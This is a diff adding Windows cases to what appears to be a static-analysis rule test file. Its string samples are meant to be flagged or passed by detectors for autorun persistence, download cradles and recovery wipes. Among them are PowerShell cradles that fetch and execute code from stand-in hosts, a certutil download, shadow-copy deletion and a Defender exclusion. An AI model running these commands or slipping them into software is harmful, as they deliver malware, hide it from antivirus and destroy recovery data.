@@ -647,3 +647,44 @@ HIJACK = {"os": "system"}
 for hijack_mod, hijack_fn in HIJACK.items():
     # ruleid: shell-command, process-partial-path
     getattr(importlib.import_module(hijack_mod), hijack_fn)("id")
+# Windows: auto-start locations, download cradles, recovery wipes
+import winreg
+# ruleid: windows-autorun-persistence
+RUN_KEY = r"Software\Microsoft\Windows\CurrentVersion\Run"
+# ruleid: windows-autorun-persistence
+startup = os.path.join(os.environ.get("APPDATA", ""), r"Microsoft\Windows\Start Menu\Programs\Startup")
+# ok: windows-autorun-persistence
+uninstall = r"Software\Microsoft\Windows\CurrentVersion\Uninstall"
+# ok: windows-autorun-persistence
+runbook = "docs/Runbook.md"
+# ruleid: windows-download-cradle
+cradle = "powershell -NoP -W Hidden -c IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')"
+# ruleid: windows-download-cradle
+encoded = "powershell.exe -nop -enc JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwA="
+# ruleid: windows-download-cradle
+fetch = "certutil.exe -urlcache -split -f http://198.51.100.7/p.exe p.exe"
+# ruleid: windows-download-cradle
+piped = "iwr https://x.example/s.ps1 -UseBasicParsing | iex"
+# ok: windows-download-cradle
+build_ps = "powershell -NoProfile -File build.ps1 -Configuration Release"
+# ok: windows-download-cradle
+cert_dump = "certutil -hashfile setup.exe SHA256"
+# ruleid: windows-recovery-wipe
+wipe = "vssadmin.exe Delete Shadows /All /Quiet"
+# ruleid: windows-recovery-wipe
+blind = "powershell Add-MpPreference -ExclusionPath C:\\Users"
+# ok: windows-recovery-wipe
+listing = "vssadmin list shadows"
+# ruleid: windows-command-string, subprocess-call, process-partial-path
+subprocess.Popen("powershell -NoProfile -Command Get-Process", creationflags=0x08000000)
+# ruleid: windows-command-string, subprocess-call, process-partial-path
+subprocess.run("cmd /c del /q C:\\temp\\*")
+# ok: windows-command-string
+# ruleid: subprocess-call, process-partial-path
+subprocess.run("git status")
+# ok: windows-command-string
+# ruleid: shell-in-argv, subprocess-call, process-partial-path, process-partial-path-list
+subprocess.run(["cmd", "/c", "ver"], check=True)
+# PowerShell's parameters in any case, in a list
+# ruleid: shell-in-argv, subprocess-call, process-partial-path, process-partial-path-list
+subprocess.run(["powershell", "-Enc", "SQBFAFgA"])
